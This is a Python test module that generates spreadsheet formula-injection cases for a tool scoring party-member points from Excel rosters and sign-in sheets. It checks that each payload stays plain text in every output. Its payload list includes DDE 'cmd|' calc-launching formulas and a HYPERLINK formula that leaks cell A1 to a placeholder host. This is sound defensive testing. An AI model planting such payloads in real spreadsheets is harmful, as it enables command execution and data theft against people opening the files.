"""Formula injection: text a spreadsheet program would run as a formula, in every place a
branch can type text (names, ids, branch names, activity names, items, categories, results,
marks, file names, sheet names, ruleset names). Every output must keep it as text: no formula
cell in any workbook, a leading ``'`` in the CSV and Parquet ledgers."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any

from .books import (
    BRANCH,
    MEMBERS,
    appraisal_rows,
    base,
    raw_xlsx,
    roster_only,
    roster_rows,
    sheet_xml,
    signin_rows,
    write_book,
)
from .corpus import Spec, plan

__all__ = ["PAYLOADS", "specs"]

CATEGORY = "injection"
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=1+1",
]
#: Payloads usable as file and sheet names (no slash; sheet names also avoid []:*?/\).
NAME_PAYLOADS = ["=cmd|' \\C calc'!A0", "@SUM(1)", "-2+3", "+1", "\t=1+1", "＝1+1", "=HYPERLINK(1)"]
_LEDGERS = ("csv", "parquet", "sheets")


def _spec(case_id: str, build: Any, **kw: Any) -> Spec:
    return Spec(f"inj-{case_id}", CATEGORY, build, kw)


def _argv(n: int, files: tuple[str, ...] = ("名册.xlsx", "签到.xlsx"), extra: tuple[str, ...] = ()
          ) -> tuple[str, ...]:
    """score with the ledger as CSV, Parquet or sheets in turn, and the 公示 version."""
    return ("score", *files, "-o", "复核.xlsx", "--ledger", _LEDGERS[n % 3], "--public", "公示.xlsx", *extra)


def names(d: Path, n: int) -> dict[str, Any]:
    """The payload as a member's name (roster and sign-in, matched by name)."""
    p = PAYLOADS[n]
    members = [("A01", p, "在职党员", dt.date(2010, 5, 1)), *MEMBERS[1:]]
    r = write_book(d / "名册.xlsx", {"党员名册": roster_rows(members), "民主评议": appraisal_rows(members)})
    s = write_book(d / "签到.xlsx", {"主题党日": signin_rows(ids=False, names=[p, "李四", "王五"])})
    return plan(_argv(n, extra=("--mask-names",)), [r, s], "ok", title=f"name {p!r}", literals=(p,))


def member_ids(d: Path, n: int) -> dict[str, Any]:
    p = PAYLOADS[n]
    members = [(p, "张三", "在职党员", dt.date(2010, 5, 1)), *MEMBERS[1:]]
    rows = signin_rows()
    rows[2][2] = p
    r = write_book(d / "名册.xlsx", {"党员名册": roster_rows(members), "民主评议": appraisal_rows(members)})
    s = write_book(d / "签到.xlsx", {"主题党日": rows})
    return plan(_argv(n), [r, s], "ok", title=f"member id {p!r}", literals=(p,))


def branches(d: Path, n: int) -> dict[str, Any]:
    p = PAYLOADS[n]
    files = base(d, roster=roster_rows(branch=p), signin=signin_rows(title=f"{p}2024年主题党日签到表"))
    return plan(_argv(n, extra=("--per-branch", "各支部")), files, "ok", title=f"branch {p!r}", literals=(p,))


def activities(d: Path, n: int) -> dict[str, Any]:
    """The payload as the activity (title and sheet name give none): unknown_activity."""
    p = PAYLOADS[n]
    rows = [[f"{BRANCH}2024年签到表"], ["序号", "姓名", "党员编号", p, p, p],
            [None, None, None, "1月5日", "2月5日", "3月5日"], *signin_rows()[2:]]
    r = roster_only(d)
    s = write_book(d / "签到.xlsx", {"签到": rows})
    return plan(_argv(n), [r, s], "ok", title=f"activity {p!r}", literals=(p,))


def items(d: Path, n: int, sheet: str) -> dict[str, Any]:
    p = PAYLOADS[n]
    log = [["党员编号", "姓名", "日期", "事项", "备注"], ["A01", "张三", dt.date(2024, 5, 1), p, p]]
    files = base(d, extra_sheets={sheet: log})
    return plan(_argv(n), files, "ok", title=f"{sheet} item {p!r}", literals=(p,))


def categories(d: Path, n: int) -> dict[str, Any]:
    p = PAYLOADS[n]
    rows = roster_rows()
    rows[1][4] = p
    return plan(_argv(n), base(d, roster=rows), "ok", title=f"category {p!r}", literals=(p,))


def results(d: Path, n: int) -> dict[str, Any]:
    p = PAYLOADS[n]
    rows = appraisal_rows()
    rows[1][2] = p
    r = write_book(d / "名册.xlsx", {"党员名册": roster_rows(), "民主评议": rows})
    s = write_book(d / "签到.xlsx", {"主题党日": signin_rows()})
    return plan(_argv(n), [r, s], "ok", title=f"appraisal result {p!r}", literals=(p,))


def marks(d: Path, n: int) -> dict[str, Any]:
    p = PAYLOADS[n]
    rows = signin_rows()
    rows[2][3] = p
    return plan(_argv(n), base(d, signin=rows), "ok", title=f"mark {p!r}", literals=(p,))


def file_names(d: Path, n: int) -> dict[str, Any]:
    """The payload as the sign-in file's name: every source address starts with it."""
    p = NAME_PAYLOADS[n]
    r = roster_only(d)
    s = write_book(d / f"{p}.xlsx", {"主题党日": signin_rows()})
    given = f"./{s.name}" if s.name.startswith("-") else s.name  # (else it reads as an option)
    return plan(_argv(n, files=("名册.xlsx", given)), [r, s], "ok", title=f"file name {p!r}.xlsx",
                literals=(p, s.name))


def sheet_names(d: Path, n: int) -> dict[str, Any]:
    """The payload as the sign-in sheet's name (hand-made package: Excel would refuse some)."""
    p = NAME_PAYLOADS[n]
    r = roster_only(d)
    s = raw_xlsx(d / "签到.xlsx", [(p, sheet_xml(signin_rows()))])
    return plan(_argv(n), [r, s], "ok", title=f"sheet name {p!r}", literals=(p,))


def rulesets(d: Path, n: int, where: str) -> dict[str, Any]:
    """The payload as the ruleset's title, an activity name or a bonus item name."""
    p = PAYLOADS[n]
    text = (resources.files("points.rules") / "shipped" / "dujiangyan.toml").read_text(encoding="utf-8")
    quoted = '"' + p.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
    if where == "title":
        text = text.replace('title = "都江堰式分类积分"', f"title = {quoted}")
    elif where == "activity":
        text = text.replace('[activities."主题党日"]', f"[activities.{quoted}]")
    else:
        text = text.replace('[bonuses."志愿服务"]', f"[bonuses.{quoted}]")
    rules = d / "规则.toml"
    rules.write_text(text, encoding="utf-8")
    files = base(d)
    return plan(_argv(n, extra=("-r", "规则.toml")), [*files, rules], "ok", also=("error",),
                title=f"ruleset {where} {p!r}", literals=(p,))


def specs() -> Iterator[Spec]:
    for n in range(len(PAYLOADS)):
        yield _spec(f"name-{n + 1}", names, n=n)
    for n in (0, 1, 4):
        yield _spec(f"id-{n + 1}", member_ids, n=n)
    for n in (0, 1, 2, 5, 7):
        yield _spec(f"branch-{n + 1}", branches, n=n)
    for n in (0, 1, 3, 6, 10):
        yield _spec(f"activity-{n + 1}", activities, n=n)
    for n in (0, 2, 4, 8, 11):
        yield _spec(f"negative-{n + 1}", items, n=n, sheet="负面清单")
    for n in (1, 3, 9):
        yield _spec(f"bonus-{n + 1}", items, n=n, sheet="先锋示范")
    for n in (0, 5, 11):
        yield _spec(f"category-{n + 1}", categories, n=n)
    for n in (1, 7):
        yield _spec(f"result-{n + 1}", results, n=n)
    for n in (0, 3, 6):
        yield _spec(f"mark-{n + 1}", marks, n=n)
    for n in range(len(NAME_PAYLOADS)):
        yield _spec(f"file-{n + 1}", file_names, n=n)
        yield _spec(f"sheet-{n + 1}", sheet_names, n=n)
    for n, where in ((1, "title"), (0, "activity"), (2, "bonus"), (7, "title")):
        yield _spec(f"rules-{where}-{n + 1}", rulesets, n=n, where=where)
